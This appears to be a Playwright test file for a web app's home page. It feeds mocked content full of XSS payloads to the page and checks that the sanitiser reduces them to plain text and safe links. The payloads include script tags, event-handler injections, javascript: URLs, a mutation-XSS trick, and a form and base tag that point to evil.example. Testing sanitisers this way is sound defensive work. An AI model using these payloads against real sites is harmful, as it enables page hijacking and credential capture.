import { homeContent } from '#contract/home/home.ts'
import { expect, test } from '../support/kontor.ts'

const hostile = [
  '<p onclick="alert(1)" style="position:fixed" class="x" id="main" data-index="0" aria-hidden="true">Guten Tag</p>',
  '<script>document.title = "stolen"</script>',
  '<img src="x" onerror="document.title = \'stolen\'">',
  '<svg onload="document.title = \'stolen\'"><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>',
  '<math><mtext><style><img src onerror="document.title = \'stolen\'"></style></mtext></math>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe src="https://evil.example/" srcdoc="<script>parent.document.title = 1</script>"></iframe>',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Weiter</button></form>',
  '<a href="javascript:alert(1)">eins</a> <a href="JaVa&#10;Script:alert(1)">zwei</a> <a href="data:text/html,x">drei</a>',
  '<a href="https://kontor.example/" target="_top" title="Ziel">vier</a>',
  '<template><script>alert(1)</script></template><base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
].join('')

test('hostile HTML in the content of the home page leaves words and harmless links', async ({
  page,
  faults,
}) => {
  // the sanitiser parses it in a document of its own, under the same policy, which says what it stopped there
  faults.expect(/policy violated|Content Security Policy/u)
  await page.route(`**${homeContent.path}*`, (route) =>
    route.fulfill({
      json: {
        title: '<img src=x onerror=alert(1)>',
        paragraphs: [{ format: 'html', content: hostile }],
        announcement: { title: 'Neu', content: hostile, link: 'javascript:alert(1)', revision: 'x' },
        contacts: [],
      },
    }),
  )
  await page.goto('/home/')
  await expect(page.getByRole('heading', { level: 2, name: '<img src=x onerror=alert(1)>' })).toBeVisible()
  const texts = page.locator('main div', { hasText: 'Guten Tag' }).filter({ has: page.locator(':scope > p') })
  await expect(texts).toHaveCount(2)
  for (const html of await texts.evaluateAll((found) => found.map(({ innerHTML }) => innerHTML))) {
    expect(html.replaceAll(/\s+/gu, ' ')).toBe(
      '<p>Guten Tag</p>Weiter<a>eins</a> <a>zwei</a> <a>drei</a><a href="https://kontor.example/" title="Ziel">vier</a>',
    )
  }
  await expect(page.getByRole('region', { name: 'Neu' }).locator('a[href^="javascript"]')).toHaveCount(0)
  await expect(page).not.toHaveTitle(/stolen/u)
})
